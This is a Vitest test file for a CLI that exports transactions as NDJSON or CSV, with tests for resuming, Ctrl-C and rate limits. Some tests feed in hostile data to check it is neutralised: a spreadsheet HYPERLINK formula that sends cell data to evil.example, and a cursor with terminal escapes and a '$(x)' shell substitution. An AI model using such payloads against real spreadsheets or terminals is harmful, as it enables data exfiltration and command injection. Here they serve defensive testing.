import { spawnSync } from 'node:child_process';
import { lstat, mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { Writable } from 'node:stream';
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import { startFakeServer, type FakeServer } from '../../../src/testing/index.js';
import { runCli } from '../../../src/cli/dispatch.js';
import { cli, memoryIO } from '../../helpers/cli-run.js';
import { openPaths } from '../../helpers/open-paths.js';
import { terminalControl } from '../../helpers/terminal-controls.js';

const COUNT = 1234;
let dir: string;
let server: FakeServer | undefined;
beforeAll(async () => {
  dir = await mkdtemp(join(tmpdir(), 'cli-export-'));
});
afterAll(async () => {
  await rm(dir, { recursive: true, force: true });
});
afterEach(async () => {
  await server?.close();
  server = undefined;
});

function envOf(s: FakeServer): Record<string, string> {
  return { CREDIT_PLATFORM_API_KEY: s.apiKey, CREDIT_PLATFORM_BASE_URL: s.baseUrl };
}

/** The fake's ids, in the order the service lists them. */
async function allIds(s: FakeServer): Promise<string[]> {
  const ids: string[] = [];
  let cursor: string | null = null;
  do {
    const query: string = cursor === null ? 'limit=100' : `limit=100&cursor=${encodeURIComponent(cursor)}`;
    const res = await fetch(`${s.baseUrl}/transactions?${query}`, { headers: { 'x-api-key': s.apiKey } });
    const { data } = await res.json();
    ids.push(...data.items.map((t: { id: string }) => t.id));
    cursor = data.nextCursor;
  } while (cursor !== null);
  return ids;
}

/**
 * A fake whose GET /transactions starts failing (503, every attempt, so the client's retries
 * give up too) at the `failAt`-th request, until `heal()`.
 */
async function failingServer(failAt: number) {
  const started = await startFakeServer({ transactions: COUNT });
  const { fake } = started;
  let seen = 0;
  let healed = false;
  await started.close();
  const wrapped = {
    ...fake,
    handle(request: Request, context?: { clientAddress?: string }) {
      if (!healed && new URL(request.url).pathname.endsWith('/transactions') && ++seen >= failAt) {
        fake.faults.inject({ path: '/transactions', kind: 'status', status: 503 });
      }
      return fake.handle(request, context);
    },
  };
  const s = await startFakeServer({ fake: wrapped });
  return {
    server: s,
    heal: () => {
      healed = true;
      fake.faults.clear();
    },
  };
}

/**
 * A fake of 5 transactions whose `at`-th GET /transactions answers 429 with `X-RateLimit-Reset`
 * `resetInS` seconds away (spent window, no `Retry-After`); and the cursor of its second page of 2.
 */
async function rateLimitedServer(at: number, resetInS: number) {
  const started = await startFakeServer({ transactions: 5 });
  const { fake } = started;
  const first = await fetch(`${started.baseUrl}/transactions?limit=2`, { headers: { 'x-api-key': started.apiKey } });
  const secondCursor: string = (await first.json()).data.nextCursor;
  await started.close();
  let seen = 0;
  const s = await startFakeServer({
    fake: {
      ...fake,
      handle(request: Request, context?: { clientAddress?: string }) {
        if (new URL(request.url).pathname.endsWith('/transactions') && ++seen === at) {
          const reset = String(Math.ceil(Date.now() / 1000) + resetInS);
          const headers = { 'x-ratelimit-remaining': '0', 'x-ratelimit-reset': reset };
          fake.faults.inject({ path: '/transactions', kind: 'status', status: 429, headers });
        }
        return fake.handle(request, context);
      },
    },
  });
  return { server: s, secondCursor };
}

/** The arguments of the printed resume command (`npx credit-platform ...`), unquoted. */
function resumeArgv(stderr: string): string[] {
  const line = stderr.split('\n').find((l) => l.startsWith('  npx credit-platform '));
  if (line === undefined) throw new Error(`no resume command in:\n${stderr}`);
  const words = line.trim().split(' ');
  expect(words.every((w) => !w.includes("'"))).toBe(true);
  return words.slice(2);
}

describe('credit-platform transactions export', () => {
  it('writes every transaction exactly once as NDJSON to stdout, with a progress line on stderr', async () => {
    server = await startFakeServer({ transactions: COUNT });
    const result = await cli(['transactions', 'export'], { env: envOf(server) });
    expect(result.code).toBe(0);
    const lines = result.stdout.trimEnd().split('\n');
    const ids = lines.map((l) => (JSON.parse(l) as { id: string }).id);
    expect(ids).toEqual(await allIds(server));
    expect(new Set(ids).size).toBe(COUNT);
    expect(result.stderr).toMatch(new RegExp(`^exported ${COUNT} transactions, 13 pages, \\d+/s\\n$`, 'm'));
  });

  it('writes CSV with a header row and one RFC 4180 row per transaction to --out', async () => {
    server = await startFakeServer({ transactions: 5 });
    server.fake.admin.addTransaction(server.fake.accountId, { token: 'US,DC', chain: 'say "base"' });
    const out = join(dir, 'tx.csv');
    const result = await cli(['transactions', 'export', '--format', 'csv', '--out', out, '--limit', '2'], { env: envOf(server) });
    expect(result.code).toBe(0);
    const text = await readFile(out, 'utf8');
    const rows = text.split('\r\n');
    expect(rows[0]).toBe('id,type,status,token,chain,amount,transactionHash,createdAt');
    expect(rows).toHaveLength(1 + 6 + 1);
    expect(rows.at(-1)).toBe('');
    expect(rows.slice(1, -1).map((r) => r.split(',')[0])).toEqual(await allIds(server));
    expect(text).toContain(',"US,DC","say ""base""",');
    expect(result.stdout).toBe('');
    expect(result.stderr).toContain(`exported 6 transactions, 3 pages`);
  });

  it('after a failed page, prints the command that resumes it; run, the file holds every id once', async () => {
    const { server: s, heal } = await failingServer(5);
    server = s;
    const out = join(dir, 'resumed.ndjson');
    const failed = await cli(['transactions', 'export', '--out', out], { env: envOf(s) });
    expect(failed.code).toBe(1);
    expect(failed.stderr).toMatch(/failed after 400 transactions, 4 pages, \d+\/s: InternalServerError: /);
    expect(failed.stderr).toContain('Resume from the failed page with:');
    const argv = resumeArgv(failed.stderr);
    expect(argv).toEqual([
      'transactions',
      'export',
      '--format=ndjson',
      `--out=${out}`,
      '--limit=100',
      expect.stringMatching(/^--cursor=./),
    ]);
    expect((await readFile(out, 'utf8')).split('\n')).toHaveLength(401);

    heal();
    const resumed = await cli(argv, { env: envOf(s) });
    expect(resumed.code).toBe(0);
    const ids = (await readFile(out, 'utf8'))
      .trimEnd()
      .split('\n')
      .map((l) => (JSON.parse(l) as { id: string }).id);
    expect(ids).toEqual(await allIds(s));
  });

  it('resumes a CSV export without a second header', async () => {
    const { server: s, heal } = await failingServer(3);
    server = s;
    const out = join(dir, 'resumed.csv');
    const failed = await cli(['transactions', 'export', '--format', 'csv', '--out', out], { env: envOf(s) });
    expect(failed.code).toBe(1);
    heal();
    const resumed = await cli(resumeArgv(failed.stderr), { env: envOf(s) });
    expect(resumed.code).toBe(0);
    const rows = (await readFile(out, 'utf8')).split('\r\n').slice(0, -1);
    expect(rows.filter((r) => r.startsWith('id,'))).toHaveLength(1);
    expect(rows.slice(1).map((r) => r.split(',')[0])).toEqual(await allIds(s));
  });

  it('stops after the current page on Ctrl-C and prints the command that continues', async () => {
    server = await startFakeServer({ transactions: COUNT });
    const { io, out, stop } = memoryIO({ env: envOf(server) });
    const file = join(dir, 'stopped.ndjson');
    // Ctrl-C once the first progress line is out: the page in hand is written, then the export stops.
    io.stderr.once('data', stop);
    const code = await runCli(['transactions', 'export', '--out', file], io);
    expect(code).toBe(130);
    expect(out.stderr).toMatch(/stopped after \d+00 transactions, \d+ pages?, \d+\/s\. Continue with:/);
    // The resume command writes to the same --out file: nothing to append by hand.
    expect(out.stderr).not.toContain('(append its output');
    const resumed = await cli(resumeArgv(out.stderr), { env: envOf(server) });
    expect(resumed.code).toBe(0);
    const ids = (await readFile(file, 'utf8'))
      .trimEnd()
      .split('\n')
      .map((l) => (JSON.parse(l) as { id: string }).id);
    expect(ids).toEqual(await allIds(server));
  });

  it('refuses to resume into a file whose last line is cut short', async () => {
    server = await startFakeServer({ transactions: 3 });
    const out = join(dir, 'cut.ndjson');
    await writeFile(out, '{"id":"tx_1"}\n{"id":"tx_');
    const result = await cli(['transactions', 'export', '--out', out, '--cursor', 'abc'], { env: envOf(server) });
    expect(result.code).toBe(1);
    expect(result.stderr).toContain('does not end with a line break');
    expect(await readFile(out, 'utf8')).toBe('{"id":"tx_1"}\n{"id":"tx_');
  });

  it("without a key, prints the client's own ConfigurationError message and exits 1", async () => {
    const result = await cli(['transactions', 'export'], { env: { CREDIT_PLATFORM_BASE_URL: 'http://127.0.0.1:1/api/v1' } });
    expect(result.code).toBe(1);
    expect(result.stderr).toBe(
      'transactions export: No API key: pass `apiKey` to `new CreditPlatform({ apiKey })` or set CREDIT_PLATFORM_API_KEY. Keys are created in the dashboard under Settings > API Keys.\n',
    );
  });

  it('refuses a bad --format or --limit before anything is sent (exit 2)', async () => {
    for (const argv of [
      ['--format', 'xml'],
      ['--limit', '101'],
      ['--limit', '0'],
      ['--cursor', ''],
    ]) {
      const result = await cli(['transactions', 'export', ...argv], {
        env: { CREDIT_PLATFORM_API_KEY: 'k', CREDIT_PLATFORM_BASE_URL: 'http://127.0.0.1:1/api/v1' },
      });
      expect(result.code).toBe(2);
      expect(result.stdout).toBe('');
    }
  });

  it('writes hostile cells inert in CSV, and NDJSON with every value as it came', async () => {
    server = await startFakeServer({ transactions: 0 });
    const hostile = {
      type: '=HYPERLINK("http://evil.example/?"&A1,"x")',
      status: '@SUM(1)',
      token: '\tx',
      chain: '\rx',
      transactionHash: '-1+1',
      amount: '-12.50',
    };
    // The service's type and status are free strings; the fake's types narrow them to the known values.
    server.fake.admin.addTransaction(server.fake.accountId, {
      ...hostile,
      type: hostile.type as 'deposit',
      status: hostile.status as 'pending',
    });
    const csvFile = join(dir, 'hostile.csv');
    expect((await cli(['transactions', 'export', '--format', 'csv', '--out', csvFile], { env: envOf(server) })).code).toBe(0);
    const row = (await readFile(csvFile, 'utf8')).split('\r\n')[1] as string;
    expect(row).toMatch(
      /^tx_\w+,"'=HYPERLINK\(""http:\/\/evil\.example\/\?""&A1,""x""\)",'@SUM\(1\),'\tx,"'\rx",-12\.50,'-1\+1,\S+$/,
    );

    const ndjson = await cli(['transactions', 'export'], { env: envOf(server) });
    expect(ndjson.code).toBe(0);
    const res = await fetch(`${server.baseUrl}/transactions`, { headers: { 'x-api-key': server.apiKey } });
    const [item] = (await res.json()).data.items;
    expect(item).toMatchObject(hostile);
    expect(ndjson.stdout).toBe(`${JSON.stringify(item)}\n`);
  });

  it('failing before the first page (a wrong key) prints no resume command and leaves no file', async () => {
    server = await startFakeServer({ transactions: 3 });
    const env = { ...envOf(server), CREDIT_PLATFORM_API_KEY: 'cpk_test_wrong_key_0000000000' };
    for (const format of ['ndjson', 'csv']) {
      const file = join(dir, `never.${format}`);
      const result = await cli(['transactions', 'export', '--format', format, '--out', file], { env });
      expect(result.code).toBe(1);
      expect(result.stderr).toContain('failed before the first page: AuthenticationError');
      expect(result.stderr).toContain('Nothing was written.');
      expect(result.stderr).not.toContain('npx credit-platform');
      await expect(lstat(file)).rejects.toThrow(/ENOENT/);
    }
    // A file resumed into is left exactly as it was; one replaced with --force is not emptied.
    const kept = join(dir, 'kept.ndjson');
    await writeFile(kept, '{"id":"tx_1"}\n');
    for (const extra of [['--cursor', 'abc'], ['--force']]) {
      const result = await cli(['transactions', 'export', '--out', kept, ...extra], { env });
      expect(result.code).toBe(1);
      expect(result.stderr).not.toContain('npx credit-platform');
      expect(await readFile(kept, 'utf8')).toBe('{"id":"tx_1"}\n');
    }
  });

  it.each([
    { at: 2, ctrlC: 'Ctrl-C stops the export and prints the command that resumes it.' },
    { at: 1, ctrlC: 'Ctrl-C stops the export; nothing is written yet.' },
  ])('says in one line how long it waits on a rate limit (request $at), why, and what Ctrl-C does', async ({ at, ctrlC }) => {
    server = (await rateLimitedServer(at, 1)).server;
    const result = await cli(['transactions', 'export', '--limit', '2'], { env: envOf(server) });
    expect(result.code).toBe(0);
    expect(result.stdout.trimEnd().split('\n')).toHaveLength(5);
    const waits = result.stderr.split('\n').filter((l) => l.includes('waiting'));
    expect(waits).toHaveLength(1);
    expect(waits[0]).toMatch(
      /^transactions export: the key's rate limit is spent \(429\): waiting [12] s, until \d\d:\d\d:\d\d UTC, as its X-RateLimit-Reset says\. /,
    );
    expect(waits[0]?.endsWith(` says. ${ctrlC}`)).toBe(true);
    // One line each, no object dump: every stderr line is a progress, wait or summary line.
    for (const line of result.stderr.trimEnd().split('\n'))
      expect(line).toMatch(/^(exporting: |exported |transactions export: )/);
  });

  it('says when it waits out a 503 the service asked it to wait on', async () => {
    server = await startFakeServer({ transactions: 3 });
    server.fake.faults.inject({ path: '/transactions', kind: 'status', status: 503, headers: { 'retry-after': '1' } });
    const result = await cli(['transactions', 'export'], { env: envOf(server) });
    expect(result.code).toBe(0);
    expect(result.stderr.split('\n')[0]).toMatch(
      /^transactions export: the service is unavailable \(503\): waiting 1 s, until \d\d:\d\d:\d\d UTC, as its Retry-After says\. Ctrl-C stops the export; nothing is written yet\.$/,
    );
  });

  it('Ctrl-C during a rate-limit wait stops at once with the resume command', async () => {
    // The second page's reset is 50 s away (under maxRateLimitWait, above the test's timeout):
    // without the abort, the export would sleep it out.
    const limited = await rateLimitedServer(2, 50);
    server = limited.server;
    const { io, out, stop } = memoryIO({ env: envOf(server) });
    io.stderr.on('data', (chunk: Buffer) => {
      if (chunk.toString().includes('waiting')) stop();
    });
    const code = await runCli(['transactions', 'export', '--limit', '2'], io);
    expect(code).toBe(130);
    expect(out.stdout.trimEnd().split('\n')).toHaveLength(2);
    // The wait's length and end as the reset header gives them (50 s away, give or take the clock's second).
    const [, seconds, until] = /waiting (\d+) s, until (\d\d:\d\d:\d\d) UTC/.exec(out.stderr) ?? [];
    expect(Number(seconds)).toBeGreaterThanOrEqual(48);
    expect(Number(seconds)).toBeLessThanOrEqual(51);
    const end = new Date(`${new Date().toISOString().slice(0, 11)}${until}Z`).getTime();
    const offBy = Math.abs(((end - (Date.now() + Number(seconds) * 1000) + 43_200_000) % 86_400_000) - 43_200_000);
    expect(offBy).toBeLessThan(5_000);
    expect(out.stderr).toContain(
      `  npx credit-platform transactions export --format=ndjson --limit=2 --cursor=${limited.secondCursor}\n`,
    );
  });

  it('prints a hostile cursor with no terminal escapes, in a resume command a shell reads back exactly', async () => {
    server = await startFakeServer({ transactions: 3 });
    const first = await fetch(`${server.baseUrl}/transactions?limit=1`, { headers: { 'x-api-key': server.apiKey } });
    const body = await first.json();
    const cursor = 'c1\u001b]0;owned\u0007\u001b[2J\u009b\'"$(x)';
    body.data.nextCursor = cursor;
    server.fake.faults.inject({
      path: '/transactions',
      kind: 'raw',
      body: JSON.stringify(body),
      headers: { 'content-type': 'application/json' },
    });
    server.fake.faults.inject({ path: '/transactions', kind: 'status', status: 400 });
    const out = join(dir, 'hostile-cursor.ndjson');
    const result = await cli(['transactions', 'export', '--out', out, '--limit', '1'], { env: envOf(server) });
    expect(result.code).toBe(1);
    expect(terminalControl(result.stderr)).toBeUndefined();
    const line = result.stderr.split('\n').find((l) => l.startsWith('  npx credit-platform '));
    expect(line).toBeDefined();
    expect(result.stderr).toContain('run it in bash, zsh or ksh');
    const argv = spawnSync('bash', ['-c', `set -- ${(line as string).trim()}; printf '%s\\0' "$@"`], { encoding: 'utf8' });
    expect(argv.stdout.split('\0').slice(0, -1)).toEqual([
      'npx',
      'credit-platform',
      'transactions',
      'export',
      '--format=ndjson',
      `--out=${out}`,
      '--limit=1',
      `--cursor=${cursor}`,
    ]);
  });
});

describe('transactions export: what each refusal, stop and failure prints', () => {
  const env = { CREDIT_PLATFORM_API_KEY: 'k', CREDIT_PLATFORM_BASE_URL: 'http://127.0.0.1:1/api/v1' };

  it('names what is wrong with an empty --cursor or --out, exit 2, nothing written', async () => {
    for (const [argv, message] of [
      [['--cursor', ''], '--cursor must not be empty; leave it out to start from the first page.'],
      [['--out', ''], '--out must name a file.'],
      [['--force'], '--force replaces an --out file; give --out <file>.'],
    ] as const) {
      const result = await cli(['transactions', 'export', ...argv], { env });
      expect(result).toEqual({
        code: 2,
        stdout: '',
        stderr: `transactions export: ${message}\nRun \`credit-platform transactions export --help\` for usage.\n`,
      });
    }
  });

  it('says which --out it cannot write, and why, exit 1', async () => {
    const out = join(dir, 'no-such-dir', 'tx.ndjson');
    const result = await cli(['transactions', 'export', '--out', out], { env });
    expect(result.code).toBe(1);
    expect(result.stderr).toMatch(new RegExp(`^transactions export: cannot write ${out}: .*ENOENT.*\\n$`));
  });

  it("refuses a key with a stray newline in the client's words, exit 1", async () => {
    server = await startFakeServer({ transactions: 3 });
    const result = await cli(['transactions', 'export'], {
      env: { ...envOf(server), CREDIT_PLATFORM_API_KEY: `${server.apiKey}\n` },
    });
    expect(result).toEqual({
      code: 1,
      stdout: '',
      stderr:
        'transactions export: The API key must be a non-empty string of visible ASCII characters (check for stray spaces or newlines in CREDIT_PLATFORM_API_KEY).\n',
    });
  });

  it('names the file it exported to', async () => {
    server = await startFakeServer({ transactions: 3 });
    const out = join(dir, 'named.ndjson');
    const result = await cli(['transactions', 'export', '--out', out], { env: envOf(server) });
    expect(result.code).toBe(0);
    expect(result.stderr).toMatch(new RegExp(`\\nexported 3 transactions, 1 page, \\d+/s to ${out}\\n$`));
  });

  it('to stdout, a run with --cursor continues an earlier CSV output: no second header', async () => {
    server = await startFakeServer({ transactions: 5 });
    const first = await cli(['transactions', 'export', '--format', 'csv', '--limit', '2'], { env: envOf(server) });
    const page = await fetch(`${server.baseUrl}/transactions?limit=2`, { headers: { 'x-api-key': server.apiKey } });
    const cursor: string = (await page.json()).data.nextCursor;
    const rest = await cli(['transactions', 'export', '--format', 'csv', '--limit', '2', '--cursor', cursor], {
      env: envOf(server),
    });
    expect(rest.code).toBe(0);
    const rows = rest.stdout.split('\r\n').slice(0, -1);
    expect(rows).toHaveLength(3);
    expect(first.stdout.split('\r\n').slice(3)).toEqual([...rows, '']);
  });

  it('names, made printable, the fields a CSV export left out', async () => {
    server = await startFakeServer({ transactions: 2 });
    const res = await fetch(`${server.baseUrl}/transactions`, { headers: { 'x-api-key': server.apiKey } });
    const body = await res.json();
    body.data.items[0].memo = 'x';
    body.data.items[1]['\u001b[2Jnote'] = 'y';
    server.fake.faults.inject({
      path: '/transactions',
      kind: 'raw',
      body: JSON.stringify(body),
      headers: { 'content-type': 'application/json' },
    });
    const result = await cli(['transactions', 'export', '--format', 'csv'], { env: envOf(server) });
    expect(result.code).toBe(0);
    expect(result.stderr.trimEnd().split('\n').at(-1)).toBe(
      'note: fields without a CSV column were left out: memo, \\u001b[2Jnote (--format ndjson keeps every field)',
    );
    const plain = await cli(['transactions', 'export', '--format', 'csv'], { env: envOf(server) });
    expect(plain.stderr).not.toContain('note:');
  });

  it('a failed page of an export to stdout: the resume command, then where its output goes; to a file, the command alone', async () => {
    server = (await failingServer(3)).server;
    const toStdout = await cli(['transactions', 'export'], { env: envOf(server), tty: true });
    expect(toStdout.code).toBe(1);
    // On a terminal, the failure starts a line of its own after the redrawn progress.
    expect(toStdout.stderr).toMatch(
      /\ntransactions export: failed after 200 transactions, 2 pages, \d+\/s: InternalServerError: /,
    );
    const tail = toStdout.stderr.trimEnd().split('\n').slice(-3);
    expect(tail[0]).toBe('Every page before the failed one is written. Resume from the failed page with:');
    expect(tail[1]).toMatch(/^ {2}npx credit-platform transactions export --format=ndjson --limit=100 --cursor=\S+$/);
    expect(tail[2]).toBe('(it writes to stdout: append its output to where this run went, e.g. >> transactions.ndjson)');

    await server.close();
    server = (await failingServer(3)).server;
    const out = join(dir, 'failed-to-file.ndjson');
    const toFile = await cli(['transactions', 'export', '--out', out], { env: envOf(server) });
    expect(toFile.code).toBe(1);
    const last = toFile.stderr.trimEnd().split('\n').slice(-2);
    expect(last[0]).toBe('Every page before the failed one is written. Resume from the failed page with:');
    expect(last[1]).toMatch(/^ {2}npx credit-platform transactions export --format=ndjson --out=\S+ --limit=100 --cursor=\S+$/);
  });

  it('Ctrl-C before the first page: exit 130, nothing written, no file left', async () => {
    server = await startFakeServer({ transactions: 3 });
    const { io, out } = memoryIO({ env: envOf(server) });
    // Ctrl-C the moment the command listens for it.
    const stopAtOnce = {
      ...io,
      onStop(listener: () => void) {
        queueMicrotask(listener);
        return () => undefined;
      },
    };
    const file = join(dir, 'stopped-early.ndjson');
    expect(await runCli(['transactions', 'export', '--out', file], stopAtOnce)).toBe(130);
    expect(out.stderr).toBe('transactions export: stopped before the first page arrived; nothing was written.\n');
    await expect(lstat(file)).rejects.toThrow(/ENOENT/);
  });

  it('Ctrl-C of an export to stdout says to append the resumed output; Ctrl-C as the last page is written completes it', async () => {
    server = await startFakeServer({ transactions: 250 });
    const run = memoryIO({ env: envOf(server), tty: true });
    run.io.stderr.once('data', run.stop);
    expect(await runCli(['transactions', 'export'], run.io)).toBe(130);
    expect(run.out.stderr).toMatch(/\ntransactions export: stopped after 100 transactions, 1 page, \d+\/s\. Continue with:\n/);
    const lines = run.out.stderr.split('\n');
    expect(lines.at(-2)).toBe('(append its output to where this run went)');
    expect(lines.at(-3)).toMatch(/^ {2}npx credit-platform transactions export --format=ndjson --limit=100 --cursor=\S+$/);

    const whole = memoryIO({ env: envOf(server), tty: true });
    whole.io.stderr.once('data', whole.stop);
    expect(await runCli(['transactions', 'export', '--limit', '100', '--cursor', await cursorAfter(server, 200)], whole.io)).toBe(
      0,
    );
    expect(whole.out.stdout.trimEnd().split('\n')).toHaveLength(50);
    expect(whole.out.stderr).toMatch(/\nexported 50 transactions, 1 page, \d+\/s\n$/);
  });

  it('stops listening for Ctrl-C once it ends, done or failed', async () => {
    server = await startFakeServer({ transactions: 3 });
    for (const env of [envOf(server), { ...envOf(server), CREDIT_PLATFORM_API_KEY: 'cpk_test_wrong_key_0000000000' }]) {
      const { io } = memoryIO({ env });
      let listening = 0;
      const counted = {
        ...io,
        onStop(listener: () => void) {
          listening += 1;
          const off = io.onStop(listener);
          return () => {
            listening -= 1;
            off();
          };
        },
      };
      await runCli(['transactions', 'export'], counted);
      expect(listening).toBe(0);
    }
  });

  it('closes the --out file it wrote', async () => {
    server = await startFakeServer({ transactions: 3 });
    const out = join(dir, 'closed.ndjson');
    const result = await cli(['transactions', 'export', '--out', out], { env: envOf(server) });
    expect(result.code).toBe(0);
    expect(openPaths()).not.toContain(out);
  });

  it('when the output itself fails after a page, says so and prints no resume command (the page may be cut)', async () => {
    server = await startFakeServer({ transactions: 250 });
    const run = memoryIO({ env: envOf(server) });
    let writes = 0;
    const stdout = Object.assign(
      new Writable({
        write(_chunk, _encoding, done) {
          done(++writes === 2 ? Object.assign(new Error('write EIO'), { code: 'EIO' }) : undefined);
        },
      }),
      { isTTY: false },
    );
    stdout.on('error', () => undefined);
    expect(await runCli(['transactions', 'export'], { ...run.io, stdout })).toBe(1);
    expect(run.out.stderr).toMatch(/\ntransactions export: failed after 100 transactions, 1 page, \d+\/s: Error: write EIO\n$/);
  });

  it('Ctrl-C after a page writes no page after it, even one already read ahead', async () => {
    const started = await startFakeServer({ transactions: 500 });
    const { fake } = started;
    await started.close();
    let requests = 0;
    let thirdAnswered!: () => void;
    const third = new Promise<void>((resolve) => (thirdAnswered = resolve));
    server = await startFakeServer({
      fake: {
        ...fake,
        async handle(request: Request, context?: { clientAddress?: string }) {
          const response = await fake.handle(request, context);
          if (new URL(request.url).pathname.endsWith('/transactions') && ++requests === 3) thirdAnswered();
          return response;
        },
      },
    });
    const run = memoryIO({ env: envOf(server), tty: true });
    // stdout takes page 2 only once page 3 has arrived (read ahead while page 2 is written).
    let written = '';
    let pages = 0;
    const stdout = Object.assign(
      new Writable({
        highWaterMark: 1,
        write(chunk: Buffer, _encoding, done) {
          written += chunk.toString();
          if (++pages === 2) void third.then(() => setTimeout(done, 100));
          else done();
        },
      }),
      { isTTY: false },
    );
    run.io.stderr.on('data', (chunk: Buffer) => {
      if (chunk.toString().includes(', 2 pages,')) run.stop();
    });
    expect(await runCli(['transactions', 'export'], { ...run.io, stdout })).toBe(130);
    expect(written.trimEnd().split('\n')).toHaveLength(200);
    expect(run.out.stderr).toContain('stopped after 200 transactions, 2 pages');
  });

  it('on a terminal, ends the redrawn progress line before every line that follows it', async () => {
    const limited = await rateLimitedServer(2, 1);
    server = limited.server;
    const run = memoryIO({ env: envOf(server), tty: true });
    expect(await runCli(['transactions', 'export', '--limit', '2'], run.io)).toBe(0);
    // The progress redraws, then each other line at the start of a line of its own.
    const lines = run.out.stderr.split('\n');
    expect(lines).toHaveLength(5);
    const redraw = '\r\u001b[Kexporting: ';
    for (const i of [0, 2]) {
      expect(lines[i]?.startsWith(redraw)).toBe(true);
      for (const part of lines[i]?.split(redraw).slice(1) ?? []) expect(part).toMatch(/^\d+ transactions, \d pages?, \d+\/s$/);
    }
    expect(lines[1]).toMatch(/^transactions export: the key's rate limit is spent \(429\): waiting /);
    expect(lines[3]).toMatch(/^exported 5 transactions, 3 pages, \d+\/s$/);
    expect(lines[4]).toBe('');
  });
});

/** The cursor of the page that starts after the first `skip` transactions (pages of 100). */
async function cursorAfter(s: FakeServer, skip: number): Promise<string> {
  let cursor = '';
  for (let seen = 0; seen < skip; seen += 100) {
    const query = cursor === '' ? 'limit=100' : `limit=100&cursor=${encodeURIComponent(cursor)}`;
    const res = await fetch(`${s.baseUrl}/transactions?${query}`, { headers: { 'x-api-key': s.apiKey } });
    cursor = (await res.json()).data.nextCursor;
  }
  return cursor;
}
